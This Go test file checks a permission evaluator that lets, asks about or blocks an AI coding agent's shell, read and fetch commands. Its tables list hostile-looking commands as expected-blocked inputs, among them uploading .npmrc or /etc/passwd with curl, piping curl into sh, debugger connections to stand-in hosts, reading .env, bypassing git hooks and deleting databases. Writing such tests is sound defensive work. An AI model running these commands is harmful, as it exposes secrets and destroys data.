package permission

import (
	"strings"
	"testing"
)

// Design section 3.2, "What needs cover".

func TestEveryCommandNeedsCover(t *testing.T) {
	s := spec{allow: "Bash(ls:*); Bash(echo:*); Bash(git:*)"}
	for _, line := range []string{
		"ls; npm i", "ls && npm i", "ls | npm i", "ls & npm i", "ls\nnpm i", "(npm i)", "{ npm i; }", "echo $(npm i)",
		"echo `npm i`", "if ls; then npm i; fi", "for x in a; do npm i; done", "! npm i", "echo <(npm i)", "case x in x) npm i;; esac",
		"f() { npm i; }; f",
	} {
		check(t, s, row{"Bash: " + line, "ask allow-list"})
	}
	check(t, s, row{"Bash: ls; echo $(git status) | ls", "allow default Bash(ls:*)"})
}

// "Plain wrappers need none for themselves; every other program that runs a
// program needs cover for itself and for what it runs."
func TestWrappers(t *testing.T) {
	inner := spec{allow: "Bash(git:*)"}
	check(t, inner,
		row{"Bash: timeout 5 git status", "allow default Bash(git:*)"},
		row{"Bash: nice -n 5 nohup git status", "allow default Bash(git:*)"},
		row{"Bash: time git status", "allow default Bash(git:*)"},
		row{"Bash: command git status", "allow default Bash(git:*)"},
		row{"Bash: sudo git status", "ask allow-list"},
		row{"Bash: env git status", "ask allow-list"},
		row{"Bash: xargs git log", "ask allow-list"},
		row{"Bash: bash -c 'git status'", "ask allow-list"},
		row{"Bash: timeout 5 npm i", "ask allow-list"},
	)
	outer := spec{allow: "Bash(sudo:*); Bash(timeout:*); Bash(bash:*); Bash(xargs:*)"}
	check(t, outer,
		row{"Bash: sudo git status", "ask allow-list"},
		row{"Bash: timeout 5 git status", "ask allow-list"},
		row{"Bash: bash -c 'git status'", "ask allow-list"},
		row{"Bash: xargs grep x", "ask allow-list"},
	)
	check(t, spec{allow: "Bash(sudo:*); Bash(git:*)"}, row{"Bash: sudo git status", "allow default Bash(sudo:*)"})
}

// "A rule whose own words reach into the run command covers that command too."
func TestRuleThatReaches(t *testing.T) {
	s := spec{allow: "Bash(xargs grep:*); Bash(xargs git log:*); Bash(sudo timeout 5 git:*); Bash(ls:*)"}
	check(t, s,
		row{"Bash: ls | xargs grep x", "allow default Bash(ls:*)"},
		row{"Bash: ls | xargs wc", "ask allow-list"},
		row{"Bash: sudo timeout 5 git status", "allow default Bash(sudo timeout 5 git:*)"},
		row{"Bash: sudo timeout 9 git status", "ask allow-list"},
		row{"Bash: sudo timeout 5 npm i", "ask allow-list"},
		row{"Bash: sudo timeout 5 git status > /etc/x", "ask allow-list"},
		row{"Bash: sudo timeout 5 git log $x", "ask allow-list"},
		row{"Bash: ls | xargs git log $x", "ask allow-list"},
		row{"Bash: ls | xargs git log", "allow default Bash(ls:*)"},
		row{"Bash: FOO=1 sudo timeout 5 git status", "ask allow-list"},
	)
}

// "An exact rule covers all that its words do", except for redirections.
func TestExactRuleCoversWhatItDoes(t *testing.T) {
	s := spec{allow: "Bash(python3 -c 'print(1)'); Bash(sort -o /tmp/out in); Bash(bash -c 'npm i && make')"}
	check(t, s,
		row{"Bash: python3 -c 'print(1)'", "allow default Bash(python3 -c 'print(1)')"},
		row{`Bash: python3  -c "print(1)"`, "allow default Bash(python3 -c 'print(1)')"},
		row{"Bash: python3 -c 'print(2)'", "ask allow-list"},
		row{"Bash: sort -o /tmp/out in", "allow default Bash(sort -o /tmp/out in)"},
		row{"Bash: sort -o /tmp/other in", "ask allow-list"},
		row{"Bash: bash -c 'npm i && make'", "allow default Bash(bash -c 'npm i && make')"},
		row{"Bash: sort -o /tmp/out in > /tmp/x", "ask allow-list"},
		row{"Bash: python3 -c 'print(1)' x", "ask allow-list"},
	)
	// Deny and ask rules still see what is inside.
	s.deny = "Bash(make:*)"
	check(t, s, row{"Bash: bash -c 'npm i && make'", "deny deny-list Bash(make:*)"})
}

func TestWholeLineRule(t *testing.T) {
	s := spec{allow: "Bash(npm i && make > out)"}
	check(t, s,
		row{"Bash: npm i && make > out", "allow default Bash(npm i && make > out)"},
		row{"Bash:  npm i && make > out ", "allow default Bash(npm i && make > out)"},
		row{"Bash: npm i && make > out; ls", "ask allow-list"},
		row{"Bash: npm i", "ask allow-list"},
	)
	s.deny = "Bash(make:*)"
	check(t, s, row{"Bash: npm i && make > out", "deny deny-list Bash(make:*)"})
}

// "Writes."
func TestWrites(t *testing.T) {
	s := spec{allow: "Bash(touch:*); Bash(cp:*); Bash(sort:*); Bash(echo:*); Bash(tee:*); Edit(out/**)"}
	check(t, s,
		row{"Bash: touch a", "allow default Bash(touch:*)"},
		row{"Bash: touch /tmp/a", "ask allow-list"},
		row{"Bash: cp a b", "allow default Bash(cp:*)"},
		row{"Bash: cp a /tmp/b", "ask allow-list"},
		row{"Bash: cp /etc/passwd b", "ask allow-list"},
		row{"Bash: sort -o x a", "ask allow-list"},
		row{"Bash: sort -o out/x a", "allow default Bash(sort:*)"},
		row{"Bash: echo a > b", "ask allow-list"},
		row{"Bash: echo a > out/b", "allow default Bash(echo:*)"},
		row{"Bash: echo a > out/../b", "ask allow-list"},
		row{"Bash: echo a > /dev/null 2>&1", "allow default Bash(echo:*)"},
		row{"Bash: tee b", "ask allow-list"},
		row{"Bash: tee out/b", "allow default Bash(tee:*)"},
	)
	check(t, spec{allow: "Bash(cp:*); Read(/etc/**)"}, row{"Bash: cp /etc/passwd b", "allow default Bash(cp:*)"})
	check(t, spec{allow: "Bash"}, row{"Bash: echo a > /tmp/b", "allow default Bash"}, row{"Bash: sort -o /x a", "allow default Bash"})
}

// "Reads are seen by ask and deny rules only."
func TestReads(t *testing.T) {
	s := spec{allow: "Bash(cat:*); Bash(grep:*)", deny: "Read(./.env)", ask: "Read(secrets/**)"}
	check(t, s,
		row{"Bash: cat /etc/passwd", "allow default Bash(cat:*)"},
		row{"Bash: cat .env", "deny deny-list Read(./.env)"},
		row{"Bash: cat < .env", "deny deny-list Read(./.env)"},
		row{"Bash: cat secrets/a", "ask ask-list Read(secrets/**)"},
		row{`Bash: cat "$f"`, "ask deny-list Read(./.env) held"},
	)
}

// "Recursive readers are Maybe on a Read deny only if Below reports a denied
// path that the program would not skip."
func TestRecursiveReads(t *testing.T) {
	s := spec{allow: "Bash(grep:*); Bash(rg:*); Grep; Glob", deny: "Read(./.env)"}
	check(t, s,
		row{"Bash: grep -r x .", "allow default Bash(grep:*)"},
		row{"Grep: .", "allow default Grep"},
	)
	s.env = fakeFS{files: []string{workspace + "/.env"}}
	check(t, s,
		row{"Bash: grep -r x .", "ask deny-list Read(./.env) held"},
		row{"Bash: grep -r x src", "allow default Bash(grep:*)"},
		row{"Bash: rg x", "allow default Bash(rg:*)"}, // skips hidden files
		row{"Grep: ", "ask deny-list Read(./.env) held"},
		row{"Glob: ", "ask deny-list Read(./.env) held"},
		row{"Grep: src", "allow default Grep"},
	)
	// Without an Env it may exist.
	use := using("Grep", ".")
	use.Dir = workspace
	if d := Evaluate(s.policy(t), nil, &use, nil, nil); outcome(d) != "ask deny-list Read(./.env) held" {
		t.Error(outcome(d))
	}
	// The same holds for an ask rule; a bare one matches by itself.
	s.deny, s.ask = "", "Read(./.env)"
	check(t, s, row{"Bash: grep -r x .", "ask ask-list Read(./.env)"})
	// A bare ask for edits does not exclude a tree from acceptEdits.
	check(t, spec{mode: "acceptEdits", ask: "Edit"}, row{"Bash: chmod -R u+w src", "allow mode"})
	check(t, spec{mode: "acceptEdits", ask: "Edit(src/gen/**)", env: fakeFS{files: []string{workspace + "/src/gen/**"}}},
		row{"Bash: chmod -R u+w src", "ask default"}, row{"Bash: chmod -R u+w doc", "allow mode"})
}

// The leading directories of a Glob pattern are followed.
func TestGlobPattern(t *testing.T) {
	s := spec{risk: true}
	tests := []struct{ input, want string }{
		{`{"pattern":"**/*.go"}`, "allow default"},
		{`{"pattern":"src/*.go","path":"lib"}`, "allow default"},
		{`{"pattern":"*.go","path":null}`, "allow default"},
		{`{"pattern":"/etc/*"}`, "ask default"},
		{`{"pattern":"../*"}`, "ask default"},
		{`{"pattern":"src/../../x/*"}`, "ask default"},
		{`{"pattern":"*/../../x"}`, "ask default"},
		{`{"pattern":"{/etc,src}/*"}`, "ask default"},
		{`{"pattern":"*","path":"/etc"}`, "ask default"},
	}
	for _, tt := range tests {
		if got := outcome(s.decideOn(t, ToolUse{Tool: "Glob", Input: []byte(tt.input)})); got != tt.want {
			t.Errorf("%s: %s, want %s", tt.input, got, tt.want)
		}
	}
}

// "Fetches by the program's purpose are seen by ask and deny rules only."
func TestFetches(t *testing.T) {
	s := spec{allow: "Bash(curl:*)", deny: "WebFetch(evil.example)", ask: "WebFetch(ask.example)"}
	check(t, s,
		row{"Bash: curl https://good.example/x", "allow default Bash(curl:*)"},
		row{"Bash: curl https://evil.example/x", "deny deny-list WebFetch(evil.example)"},
		row{"Bash: curl https://ask.example/x", "ask ask-list WebFetch(ask.example)"},
		row{"Bash: curl -o /tmp/x https://good.example/x", "ask allow-list"},
	)
	check(t, spec{allow: "WebFetch(good.example)"},
		row{"WebFetch: https://good.example/x", "allow default WebFetch(good.example)"},
		row{"WebFetch: https://evil.example/x", "ask allow-list"},
		row{"WebFetch: https://good.example@evil.example/x", "ask allow-list"},
	)
}

// "Unknown words" and "Variables".
func TestUnproven(t *testing.T) {
	s := spec{allow: "Bash(ls:*); Bash(cat:*); Bash(find:*); Bash(git log:*); Bash(npm test)"}
	check(t, s,
		row{"Bash: ls *.md", "allow default Bash(ls:*)"},
		row{`Bash: cat "$f"`, "allow default Bash(cat:*)"},
		row{"Bash: find . *", "ask allow-list"},
		row{"Bash: git log $x", "ask allow-list"},
		row{"Bash: NODE_ENV=test npm test", "allow default Bash(npm test)"},
		row{"Bash: FOO=1 ls", "ask allow-list"},
		row{"Bash: PATH=. ls", "ask allow-list"},
	)
	check(t, spec{allow: "Bash"}, row{"Bash: git log $x", "allow default Bash"}, row{"Bash: PATH=. ls", "allow default Bash"})
	check(t, spec{risk: true}, row{"Bash: FOO=1 ls", "ask default"})
}

// "cd."
func TestChangedDirectory(t *testing.T) {
	s := spec{allow: "Bash(cd:*); Bash(cat:*); Bash(echo:*); Bash(git:*); Edit(out/**)", deny: "Read(./.env)"}
	check(t, s,
		row{"Bash: cd sub && cat ../.env", "deny deny-list Read(./.env)"},
		row{"Bash: cd sub && cat .env", "allow default Bash(cd:*)"},
		row{"Bash: cd sub; cat .env", "deny deny-list Read(./.env)"},
		row{"Bash: cd out && echo a > b", "allow default Bash(cd:*)"},
		row{"Bash: cd /tmp && echo a > out/b", "ask allow-list"},
		row{"Bash: cd $x && git status", "ask allow-list"},
		row{"Bash: cd $x && cat .env", "ask deny-list Read(./.env) held"},
	)
}

// TestNamedOutright checks that a rule for all program files, or for all commits, covers
// neither what changes a database or reaches others nor what leaves out hooks, and that a
// rule which names it does.
func TestNamedOutright(t *testing.T) {
	all := spec{allow: "Bash(python *.py *); Bash(python3:*); Bash(node *.js *); Bash(git commit:*); Bash(git merge:*)", unlisted: UnlistedAsk}
	for _, line := range []string{
		"python manage.py flush", "python manage.py migrate app zero", "python3 manage.py --noinput flush", "python manage.py --settings x.y flush", "python manage.py --settings=x.y reset_db", "node cli.js db:drop",
		"python src/cli.py deploy", "env python manage.py migrate", "git commit --no-verify -m x", "git commit -n", "git commit -am x -n", "git commit -anm x", "git commit --no-verif", "git merge --no-verify x",
		"git -C . commit -n -m x",
	} {
		if d := all.decideOn(t, using("Bash", line)); d.Behavior != Ask {
			t.Errorf("%s: %s by %s (%s)", line, d.Behavior, d.Layer, d.Reason)
		}
	}
	for _, line := range []string{
		"python manage.py test", "python manage.py makemigrations", "python manage.py runserver 8000", "python train.py data/prod.csv", "python x.py migrate.json", "python x.py 'please reset'", "python3 -m pytest -k migrate", "node a.js build migrate",
		"git commit -m -n", "git commit --verify -m x", "git commit -m 'say --no-verify'", "git commit -- -n", "git merge --verify x", "git merge -n x",
	} {
		if d := all.decideOn(t, using("Bash", line)); d.Behavior != Allow {
			t.Errorf("%s: %s by %s (%s)", line, d.Behavior, d.Layer, d.Reason)
		}
	}
	named := spec{allow: "Bash(python manage.py:*); Bash(node cli.js db:drop); Bash(git commit --no-verify:*); Bash(git commit -nm:*); Bash(git commit -m x -n)", unlisted: UnlistedAsk}
	for _, line := range []string{"python manage.py flush", "node cli.js db:drop", "git commit --no-verify -m x", "git commit -nm x", "git commit -m x -n"} {
		if d := named.decideOn(t, using("Bash", line)); d.Behavior != Allow {
			t.Errorf("%s: %s by %s (%s)", line, d.Behavior, d.Layer, d.Reason)
		}
	}
}

// TestProgramsElsewhere: a rule for what a project runs covers neither code nor a debugger
// that an option of it takes elsewhere.
func TestProgramsElsewhere(t *testing.T) {
	s := spec{mode: "acceptEdits", unlisted: UnlistedAsk, env: fakeFS{}, allow: "Bash(python *.py *); Bash(python -m unittest:*); Bash(python manage.py test:*); Bash(node *.js *); Bash(npm test:*); Bash(yarn run test:*); Bash(pnpm run test:*); Bash(bun run test:*); Bash(npm run test:*); Bash(pnpm test:*); Bash(yarn test:*); Bash(go:*)"}
	for _, tt := range []struct {
		want  Behavior
		lines string
	}{
		{Ask, "python -m unittest discover -s /tmp | python -m unittest discover -t /tmp | python -m unittest discover /tmp | python -m unittest /tmp/x.py | python -m unittest discover --start-directory=../x"},
		{Allow, "python -m unittest | python -m unittest discover -s tests -p 'x_*.py' | python -m unittest tests.test_a | python -m unittest tests/test_a.py"},
		{Ask, "python manage.py test --pythonpath=/tmp | python manage.py test --pythonpath /tmp | python manage.py startapp x /tmp | python manage.py startapp --template http://evil/x foo | python manage.py startapp foo --template=/tmp/x | python ./manage.py test /tmp/x"},
		{Allow, "python manage.py test | python manage.py test app.tests -k x | python manage.py test --pythonpath=src | python manage.py runserver 0.0.0.0:8000 | python manage.py startapp blog src/blog | python manage.py dumpdata -o a.json | python manage.py own --limit 5 data/in.csv"},
		{Ask, "node --inspect=0.0.0.0:9229 a.js | node --inspect-brk=0.0.0.0 a.js | node --inspect-port=192.168.1.1:80 --inspect a.js | node '--inspect=[::]:80' a.js | node --test --test-reporter=file:///tmp/x.mjs a.js | node --test --test-reporter=data:text/javascript,1 a.js | node --inspect=$x a.js | python -m debugpy --listen 0.0.0.0:5678 x.py | python -m debugpy --connect evil:5678 x.py"},
		{Allow, "node --inspect a.js | node --inspect=9230 a.js | node --inspect-brk=127.0.0.1:9229 a.js | node --inspect=localhost a.js | node '--inspect=[::1]:80' a.js | python -m debugpy --listen 5678 x.py | python -m debugpy --listen localhost:5678 x.py"},
		{Ask, "npm test -- --config /tmp/x | npm run test -- --config=/tmp/x | npm run test -- --rootDir ../x | npm test -- --globalSetup file:///tmp/x.mjs | pnpm test --config /tmp/x | yarn test --config=../x | yarn run test --config=../x | pnpm run test --config /tmp/x | bun run test --config /tmp/x"},
		{Allow, "npm test -- --config jest.config.js | npm test -- -t '/api works' | npm test -- --testPathPattern=/foo/ | npm run test -- --base-url=http://localhost:3000 | npm test -- ./src | pnpm test src/a | yarn test --coverage"},
		{Ask, "go tool -C /tmp x | go test -C ../x ./... | go run -C /tmp . | go fmt /tmp/x.go | go fmt ../x.go | go fmt ../... | go fmt -C /tmp ./..."},
		{Allow, "go tool x | go tool -C sub x | go test -C sub ./... | go fmt | go fmt a.go | go fmt ./... | go vet ./..."},
	} {
		for line := range strings.SplitSeq(tt.lines, " | ") {
			if d := s.decideOn(t, using("Bash", line)); d.Behavior != tt.want {
				t.Errorf("%s: %s by %s (%s)", line, d.Behavior, d.Layer, d.Reason)
			}
		}
	}
}

// TestForcedAdds checks that git add --force, which takes in what git ignores, is asked about
// where that includes what a deny rule names.
func TestForcedAdds(t *testing.T) {
	s := spec{allow: "Bash(git add:*)", deny: "Read(.env)", unlisted: UnlistedAsk, env: fakeFS{files: []string{workspace + "/.env", workspace + "/src/a.go"}}}
	for line, want := range map[string]Behavior{
		"git add -f .": Ask, "git add -fA": Ask, "git add --force": Ask, "git add -f -- .": Ask, "git stage -f .": Ask, "git add -f '*'": Ask, "git add -f ':(glob)*'": Ask, "cd src && git add -f ..": Ask, "git add --forc .": Ask,
		"git add .": Allow, "git add -A": Allow, "git add -f src": Allow, "git add -f src/a.go": Allow, "git add -fn .": Allow,
	} {
		if d := s.decideOn(t, using("Bash", line)); d.Behavior != want {
			t.Errorf("%s: %s by %s (%s)", line, d.Behavior, d.Layer, d.Reason)
		}
	}
}

// TestHostsOfThisMachine checks that a rule for the host of this machine covers a
// command that only fetches from there, and no other command, host or rule.
func TestHostsOfThisMachine(t *testing.T) {
	s := spec{allow: "WebFetch(localhost); WebFetch(127.0.0.1); WebFetch(docs.example.com); Bash(sort:*)", mode: "acceptEdits", unlisted: UnlistedAsk}
	for _, command := range []string{
		"curl -s http://localhost:3000/health", "curl -sf localhost:5173/x.html", `curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/api`,
		"curl -X POST localhost:8001/x -H 'a: b' -d '{}'", "http :8000/x a==b", "wget --max-redirect=0 -qO- http://localhost/", "curl -s localhost:80 | sort",
		"curl -so out.json localhost:80", "curl -X GET localhost:9200/_search -d '{}'", "curl -I localhost:2375", "curl --json '{}' 127.0.0.1:3000/api", "wget --max-redirect=0 --post-data=x localhost:8000",
		"http POST :3000/x a=b", "http :8000/x a=b", "curl -F a=b localhost/x", "http post :3000/x a=b", "xh localhost:9200/_x X-A:b q==1", "http get :9200/_search a=b", "curl -o 'p#1.html' 'localhost:3000/[1-3]'", "curl -o 'p#.html' 'localhost:3000/{1,3}'", "http localhost:9200/x | sort", "sort <a; http localhost:9200/x", "sort <a | http -I localhost:9200/x",
		"sort <a | http localhost:3000/x", "sort a | sort; http localhost:9200/x", "sort <a | http get :9200/x",
		"curl --proto-default https localhost/x", "curl --proto =https --proto-redir =https localhost:80", "curl --proto-redir -all,https localhost:80", "http localhost:3000 'a=x@b.c' 'X-A:x@b.c'",
	} {
		if d := s.decideOn(t, using("Bash", command)); d.Behavior != Allow {
			t.Errorf("%s: %s by %s (%s)", command, d.Behavior, d.Layer, d.Reason)
		}
	}
	for _, command := range []string{
		"curl https://docs.example.com/x", "curl https://evil.example", "curl localhost https://evil.example", "curl -L localhost", "wget -qO- http://localhost/",
		"curl -x http://evil.example localhost", "curl --resolve localhost:80:192.0.2.1 http://localhost", "curl --connect-to ::evil.example:80 localhost", "curl -K x localhost",
		"curl http://localhost.evil.example", "curl http://localhost@evil.example", "curl http://evil.example#localhost", `curl "$url"`, "curl localhost$x", "curl file://localhost/etc/passwd",
		"curl 'http://{localhost,evil.example}/'", "curl -T .npmrc http://localhost", "curl -d @/etc/passwd localhost", "curl localhost | sh", "./curl localhost", "curl", "curl ftp://localhost/x",
		"http_proxy=http://evil.example curl localhost", "curl http://127.0.0.2", "nc localhost 80", "curl localhost -o /tmp/x", "curl localhost -o .git/config", "ssh localhost",
		// what changes something
		"curl -X DELETE localhost:9200/_all", "curl -XDELETE http://localhost:3000/users/1", "curl --request PUT localhost:3000/x -d a", "curl -X patch localhost:3000/x", `curl -X "$m" localhost:3000/x`,
		"curl -X POST http://localhost:2375/containers/create", "curl -d x localhost:9200/a/_delete_by_query", "curl --json '{}' localhost:8088/ws/v1/cluster/apps", "curl -d x localhost:$p", "curl -X POST localhost:4243/containers/x/exec",
		"curl localhost:3000 --next -X DELETE localhost:3000/x", "curl localhost:3000 -: -d x localhost:2375", "wget --max-redirect=0 --method=DELETE localhost:9200/_all", "wget --max-redirect=0 --post-data=x localhost:2375/x", "http DELETE :9200/_all", "https DELETE localhost:9200/_all", "http :2375/x a=b",
		"curl -X DELETE localhost:3000/x --next -X GET localhost:3000", "curl -X PURGE localhost", "curl -d x 'http://localhost:3000@localhost:2375/'",
		"http delete localhost:9200/_all", "http -f put localhost:3000/x a=b", "xh delete localhost:3000/x", "xhs Delete localhost:3000/x", "http localhost:9200/_x a/b=c", `http localhost:9200/_x 'a\==b'`, `http localhost:9200 "a:$x"`,
		"curl -o '#1' 'localhost:3000/{../../x}'", "curl -o 'a/#1' 'localhost:3000/{../../x,b}'", "curl --output=out#1.html localhost:3000/{../../x}", `curl -o "#1" "localhost:3000/$x"`, `curl -o "#$n" 'localhost:3000/{/etc/x}'`,
		"curl -o '#2#1' 'localhost:3000/{/,b}/{etc}'", "curl -o '#1' --url 'localhost:3000/{../../x}'",
		// what standard input is the body of
		"echo '{}' | http localhost:2375/containers/create", "http localhost:9200/x <data.json", "http localhost:9200/x <<<a", "xh localhost:9200/x <<E\na\nE", "{ http localhost:9200/x; } <a", "echo x | { cat; http localhost:9200/x; }",
		"exec <a; http localhost:9200/x", "if true; then exec <a; fi; http localhost:9200/x", "while read x; do http localhost:9200/x; done <a", "f() { http localhost:9200/x; }; echo a | f", "echo a | xargs http localhost:9200/x", "echo a > >(http localhost:9200/x)",
		"http localhost:9200/x &",
		// what names files or other schemes
		"http -f localhost:3000 a@.env", "http localhost:3000 a=@x", "http localhost:3000 a:=@x", "http localhost:3000 a==@x", "http localhost:3000 a:@x", "http localhost:3000 @x", "xh post localhost:3000 @x", `http localhost:3000 "a=$x"`, `http localhost:3000 "$x"`,
		"curl --proto-default file localhost/x", "curl --proto-default gopher localhost/x", "curl --proto-default=dict localhost:2628", "curl --proto-default SCP localhost/x", `curl --proto-default "$p" localhost/x`,
		"curl --proto-redir all localhost", "curl --proto-redir +file localhost", "curl --proto-redir =https,scp localhost", "http --default-scheme=unix localhost/x",
	} {
		if d := s.decideOn(t, using("Bash", command)); d.Behavior == Allow {
			t.Errorf("%s: %s by %s (%s)", command, d.Behavior, d.Layer, d.Reason)
		}
	}
	local := "Bash: curl http://localhost"
	check(t, spec{allow: "WebFetch", unlisted: UnlistedAsk}, row{local, "ask allow-list"})
	check(t, spec{allow: "WebFetch(localhost)", ask: "Bash(curl:*)", unlisted: UnlistedAsk}, row{local, "ask ask-list Bash(curl:*)"})
	check(t, spec{allow: "WebFetch(localhost)", deny: "Bash(curl:*)"}, row{local, "deny deny-list Bash(curl:*)"})
	check(t, spec{sessionAllow: "WebFetch(localhost)"}, row{local, "allow session-allow WebFetch(localhost)"})
}
